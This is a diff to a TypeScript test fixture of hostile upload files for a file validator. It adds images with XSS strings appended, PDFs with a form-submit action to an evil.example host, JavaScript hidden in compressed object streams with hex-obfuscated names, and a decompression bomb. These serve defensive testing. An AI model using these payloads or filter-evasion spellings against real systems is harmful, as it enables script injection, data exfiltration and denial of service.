@@ -10,6 +10,10 @@ const second = /holds something other/;
 const badName = /name/i;
 const tooManyPixels = /too large: at most 60 million pixels/;
 
+/** A PDF with objects that are packed together. */
+const packed = (objects: string, about = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer =>
+  aPdf(`5 0 obj\n<< ${about} >>\nstream\n${deflateSync(text(objects)).toString('latin1')}\nendstream\nendobj`);
+
 type HostileFile = readonly [what: string, name: string, bytes: Buffer, says: RegExp];
 
 /** Files that must never be kept, and what their sender is told. */
@@ -64,6 +68,10 @@ export const hostileFiles: readonly HostileFile[] = [
   ['a HEIC with a 7-Zip behind it', 'photo.heic', joined(aHeic(), Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c])), second],
   ['a photo that is a page too', 'photo.jpg', joined(aJpeg(), text('<script>alert(1)</script>')), second],
   ['a PNG that is a page too', 'photo.png', joined(aPng(), text('<HTML><body onload=alert(1)>')), second],
+  ['a photo that is a page without a head too', 'photo.jpg', joined(aJpeg(), text('<body onload=alert(1)>')), second],
+  ['a photo that is a picture on a page too', 'photo.jpg', joined(aJpeg(), text('<img src=x onerror=alert(1)>')), second],
+  ['a photo that is a script too', 'photo.jpg', joined(aJpeg(), text('\n#!/usr/bin/env python3\n')), second],
+  ['a photo that is PostScript too', 'photo.jpg', joined(aJpeg(), text('%!PS-Adobe-3.0\n')), second],
   ['a photo that is PHP too', 'photo.jpg', joined(aJpeg(), text('<?php system("id");')), second],
   ['a WebP that is a page too', 'photo.webp', joined(aWebp(), text('<iframe src="//evil.example">')), second],
   ['a photo that is a PDF too', 'photo.jpg', joined(aJpeg(), aPdf()), second],
@@ -76,6 +84,33 @@ export const hostileFiles: readonly HostileFile[] = [
   ['a PDF that starts a program', 'invoice.pdf', aPdf('<< /S /Launch /F (cmd.exe) >>'), /runs something/],
   ['a PDF with files in it', 'invoice.pdf', aPdf('<< /EmbeddedFiles 3 0 R >>'), /files in it/],
   ['a PDF with a password', 'invoice.pdf', aPdf('<< /Encrypt 4 0 R >>'), /password/],
+  ['a PDF that sends what is typed', 'invoice.pdf', aPdf('<< /S /SubmitForm /F (https://evil.example) >>'), /runs something/],
+  ['a PDF with a packed script', 'invoice.pdf', packed('<< /S /JavaScript /JS (app.alert(1)) >>'), /runs something/],
+  [
+    'a PDF with a packed script spelt otherwise',
+    'invoice.pdf',
+    packed('<< /S /#4aava#53cript >>', '/Type/#4fbjStm/Filter/Fl'),
+    /runs something/,
+  ],
+  [
+    'a PDF with a script packed twice',
+    'invoice.pdf',
+    packed('<< >>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'),
+    /runs something/,
+  ],
+  ['a PDF with a bomb for a list of its objects', 'invoice.pdf', packed('0 '.repeat(8 * 1024 * 1024)), /unpacks to much more/],
+  [
+    'a PDF with a list of its objects that is broken',
+    'invoice.pdf',
+    aPdf('5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nno\nendstream'),
+    /damaged/,
+  ],
+  [
+    'a PDF with a picture of 2.5 thousand million pixels',
+    'invoice.pdf',
+    aPdf('<< /Subtype /Image /Width 50000 /Height 50000 >>'),
+    tooManyPixels,
+  ],
   ['half a PDF', 'invoice.pdf', aPdf().subarray(0, 40), /damaged/],
   ['half a PNG', 'photo.png', aPng().subarray(0, 45), /damaged/],
   ['half a photo', 'photo.jpg', aJpeg().subarray(0, 20), /damaged|could not read/],
